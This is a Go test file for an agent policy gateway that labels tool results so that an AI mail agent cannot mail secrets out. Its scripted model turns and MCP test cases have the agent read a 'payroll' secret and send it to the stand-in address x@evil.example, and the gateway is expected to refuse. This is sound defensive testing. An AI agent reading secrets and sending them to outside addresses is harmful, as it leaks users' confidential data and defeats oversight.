package main

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/shared"
)

// mailTools are the mail agent's tools as the model is offered them.
var mailTools = func() []openai.ChatCompletionToolUnionParam {
	var out []openai.ChatCompletionToolUnionParam
	for _, name := range []string{"read_secret", "fetch_url", "send_email"} {
		out = append(out, openai.ChatCompletionFunctionTool(shared.FunctionDefinitionParam{
			Name: name, Parameters: shared.FunctionParameters{"type": "object"},
		}))
	}
	return out
}()

// mailGatewayScript: a model that reads a secret and then mails it out, mails inside
// the company, mails beside the read in one round, fetches a page before mailing, or
// just mails.
var mailGatewayScript = script(
	`{"user": "leak", "round": 1, "tool_calls": [{"id": "c1", "name": "read_secret", "arguments": "{\"name\":\"payroll\"}"}]}`,
	`{"user": "leak", "round": 2, "tool_calls": [{"id": "c2", "name": "send_email", "arguments": "{\"to\":\"x@evil.example\",\"body\":\"hunter2\"}"}]}`,
	`{"user": "internal", "round": 1, "tool_calls": [{"id": "c1", "name": "read_secret", "arguments": "{\"name\":\"payroll\"}"}]}`,
	`{"user": "internal", "round": 2, "tool_calls": [{"id": "c2", "name": "send_email", "arguments": "{\"to\":\"ops@acme.example\",\"body\":\"hunter2\"}"}]}`,
	`{"user": "parallel", "round": 1, "tool_calls": [
	   {"id": "c1", "name": "read_secret", "arguments": "{\"name\":\"payroll\"}"},
	   {"id": "c2", "name": "send_email", "arguments": "{\"to\":\"x@evil.example\",\"body\":\"see you friday\"}"}]}`,
	`{"user": "fetched", "round": 1, "tool_calls": [{"id": "c1", "name": "fetch_url", "arguments": "{\"url\":\"https://example.com\"}"}]}`,
	`{"user": "fetched", "round": 2, "tool_calls": [{"id": "c2", "name": "send_email", "arguments": "{\"to\":\"x@evil.example\",\"body\":\"the news\"}"}]}`,
	`{"user": "benign", "round": 1, "tool_calls": [{"id": "c1", "name": "send_email", "arguments": "{\"to\":\"x@evil.example\",\"body\":\"hello\"}"}]}`,
	`{"user": "internal", "round": 3, "content": "done"}`,
	`{"user": "parallel", "round": 2, "content": "done"}`,
	`{"user": "fetched", "round": 3, "content": "done"}`,
	`{"user": "benign", "round": 2, "content": "done"}`,
)

// mailGateway serves examples/mail-agent behind the OpenAI gateway, in front of the
// scripted upstream.
func mailGateway(t *testing.T) *gateway {
	t.Helper()
	up := startUpstream(t, mailGatewayScript, upstreamKey)
	dir := copyExample(t, "mail-agent")
	writeFile(t, dir, "hooks/40-gateway.yaml", `apiVersion: agentd.dev/v1
kind: HookSet
metadata: {name: gateway-openai}
settings: {rego_timeout: 10s}
gateways:
  openai:
    upstream: `+up+`
    api_key_env: UPSTREAM_API_KEY
    tools:
      read_secret: {namespace: office, agent: assistant, capability: read_secret}
      fetch_url: {namespace: office, agent: assistant, capability: fetch_url}
      send_email: {namespace: office, agent: assistant, capability: send_email}
`)
	d := startDaemonEnv(t, []string{upstreamKey}, dir)
	return &gateway{d: d, dir: dir, upstream: up, client: newClient(d.url, "unused")}
}

// TestOpenAIGateway_Labels: tool messages are finishes whose content is the result, so
// the labels of a tool's result reach the review of the model's next round: a secret
// read in round 1 and mailed out in round 2 is refused; mail inside the company, a mail
// in the same round as the read, a mail after a fetched page and another
// conversation's mail are forwarded (0 leaks, 0 false denials).
func TestOpenAIGateway_Labels(t *testing.T) {
	g := mailGateway(t)
	results := map[string]string{"read_secret": `{"value":"hunter2"}`, "fetch_url": `{"text":"the news"}`, "send_email": `{"status":"sent"}`}
	// converse runs the conversation until the model stops asking for tools, running
	// every forwarded call on the client; it returns the calls forwarded, round by
	// round, and the last message's content.
	converse := func(t *testing.T, question string) ([]string, string) {
		params := openai.ChatCompletionNewParams{Model: "scripted", Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage(question)}, Tools: mailTools}
		var forwarded []string
		for range 3 {
			c, _ := g.complete(t, params)
			msg := c.Choices[0].Message
			if len(msg.ToolCalls) == 0 {
				return forwarded, msg.Content
			}
			params.Messages = append(params.Messages, msg.ToParam())
			for _, call := range msg.ToolCalls {
				forwarded = append(forwarded, call.Function.Name+" "+call.Function.Arguments)
				params.Messages = append(params.Messages, openai.ToolMessage(results[call.Function.Name], call.ID))
			}
		}
		return forwarded, ""
	}
	for _, tc := range []struct {
		question string
		want     []string
		refused  bool
	}{
		{"leak", []string{`read_secret {"name":"payroll"}`}, true},
		{"internal", []string{`read_secret {"name":"payroll"}`, `send_email {"body":"hunter2","to":"ops@acme.example"}`}, false},
		{"parallel", []string{`read_secret {"name":"payroll"}`, `send_email {"body":"see you friday","to":"x@evil.example"}`}, false},
		{"fetched", []string{`fetch_url {"url":"https://example.com"}`, `send_email {"body":"the news","to":"x@evil.example"}`}, false},
		{"benign", []string{`send_email {"body":"hello","to":"x@evil.example"}`}, false},
	} {
		t.Run(tc.question, func(t *testing.T) {
			forwarded, content := converse(t, tc.question)
			if !slices.Equal(forwarded, tc.want) {
				t.Fatalf("forwarded %q, want %q", forwarded, tc.want)
			}
			if refused := strings.Contains(content, "refused by policy"); refused != tc.refused {
				t.Fatalf("last answer %q, want refused %v", content, tc.refused)
			}
		})
	}
}

// officeServer is an MCP server over streamable HTTP with the mail agent's tools:
// read_secret answers the secret, fetch_url a page (stating the labels of its
// "labels" argument in _meta["dev.agentd/labels"]), send_email "sent"; every call is
// logged to calls.
func officeServer(t *testing.T, calls *[]string, mu *sync.Mutex) string {
	t.Helper()
	srv := mcp.NewServer(&mcp.Implementation{Name: "office", Version: "1"}, nil)
	for _, name := range []string{"read_secret", "fetch_url", "send_email"} {
		srv.AddTool(&mcp.Tool{Name: name, InputSchema: map[string]any{"type": "object"}},
			func(_ context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
				args := map[string]any{}
				_ = json.Unmarshal(req.Params.Arguments, &args)
				mu.Lock()
				*calls = append(*calls, name+" "+string(req.Params.Arguments))
				mu.Unlock()
				res := &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "sent"}}}
				switch name {
				case "read_secret":
					res.Content = []mcp.Content{&mcp.TextContent{Text: "hunter2"}}
				case "fetch_url":
					res.Content = []mcp.Content{&mcp.TextContent{Text: "a page"}}
					if labels, ok := args["labels"]; ok {
						res.Meta = mcp.Meta{"dev.agentd/labels": labels}
					}
				}
				return res, nil
			})
	}
	hs := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
	t.Cleanup(hs.Close)
	return hs.URL
}

// TestMCPGateway_Labels: an MCP tool result labels the session's request before the
// client sees it, so the next call's review decides on it: after read_secret a mail out
// of the company is refused and one inside goes; a server with meta_labels labels a
// result by its _meta, and a result whose _meta labels are not label names never
// reaches the client; another session's mail goes (0 leaks, 0 false denials). Through
// the daemon's /mcp with the MCP Go SDK.
func TestMCPGateway_Labels(t *testing.T) {
	var calls []string
	var mu sync.Mutex
	url := officeServer(t, &calls, &mu)
	dir := copyExample(t, "mail-agent")
	flow, err := os.ReadFile(filepath.Join(dir, "hooks/10-flow.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	// The gateway's server is the catalog's office/assistant.
	before, after, _ := strings.Cut(string(flow), "catalog:")
	_, after, _ = strings.Cut(after, "labels:")
	writeFile(t, dir, "hooks/10-flow.yaml", before+"labels:"+after)
	writeFile(t, dir, "hooks/40-gateway.yaml", `apiVersion: agentd.dev/v1
kind: HookSet
metadata: {name: gateway-mcp}
settings: {rego_timeout: 10s}
gateways:
  mcp:
    servers:
      - name: assistant
        namespace: office
        url: `+url+`
        meta_labels: true
        tools: [{name: read_secret}, {name: fetch_url}, {name: send_email}]
`)
	d := startDaemon(t, dir)
	d.waitMCPUpstreams(t)
	ctx := context.Background()
	session := func() *mcp.ClientSession {
		cs, err := mcp.NewClient(&mcp.Implementation{Name: "office-client", Version: "1"}, nil).
			Connect(ctx, &mcp.StreamableClientTransport{Endpoint: d.url + "/mcp", DisableStandaloneSSE: true}, nil)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = cs.Close() })
		return cs
	}
	// call returns "ok", the refusal's code, or "error" for a tool error.
	call := func(cs *mcp.ClientSession, tool string, args map[string]any) string {
		res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: args})
		if err != nil {
			t.Fatal(err)
		}
		switch {
		case refusal(res) != "":
			return refusal(res)
		case res.IsError:
			return "error"
		}
		return "ok"
	}
	out := map[string]any{"to": "x@evil.example", "body": "hi"}
	in := map[string]any{"to": "ops@acme.example", "body": "hunter2"}
	for _, tc := range []struct {
		name  string
		calls []struct {
			tool string
			args map[string]any
		}
		want []string
	}{
		{"secret then mail out", steps("read_secret", map[string]any{"name": "payroll"}, "send_email", out), []string{"ok", "secret_egress"}},
		{"secret then mail inside", steps("read_secret", map[string]any{"name": "payroll"}, "send_email", in), []string{"ok", "ok"}},
		{"mail out alone", steps("send_email", out), []string{"ok"}},
		{"a page then mail out", steps("fetch_url", map[string]any{"url": "https://example.com"}, "send_email", out), []string{"ok", "ok"}},
		{"a page its server labels secret, then mail out", steps("fetch_url", map[string]any{"url": "https://vault.example", "labels": []any{"secret"}}, "send_email", out),
			[]string{"ok", "secret_egress"}},
		{"a page with labels that are not label names", steps("fetch_url", map[string]any{"url": "https://x.example", "labels": []any{"Not A Label"}}), []string{"error"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cs := session()
			var got []string
			for _, c := range tc.calls {
				got = append(got, call(cs, c.tool, c.args))
			}
			if !slices.Equal(got, tc.want) {
				t.Fatalf("calls answered %v, want %v", got, tc.want)
			}
		})
	}
	mu.Lock()
	defer mu.Unlock()
	sentOut := 0
	for _, c := range calls {
		if strings.HasPrefix(c, "send_email") && strings.Contains(c, "x@evil.example") {
			sentOut++
		}
	}
	if sentOut != 2 { // mail out alone, and after a page no one labelled secret
		t.Fatalf("%d mails out of the company reached the server, want 2: %q", sentOut, calls)
	}
}

// steps pairs tools and arguments: tool, args, tool, args...
func steps(pairs ...any) []struct {
	tool string
	args map[string]any
} {
	var out []struct {
		tool string
		args map[string]any
	}
	for i := 0; i+1 < len(pairs); i += 2 {
		args, _ := pairs[i+1].(map[string]any)
		out = append(out, struct {
			tool string
			args map[string]any
		}{pairs[i].(string), args})
	}
	return out
}
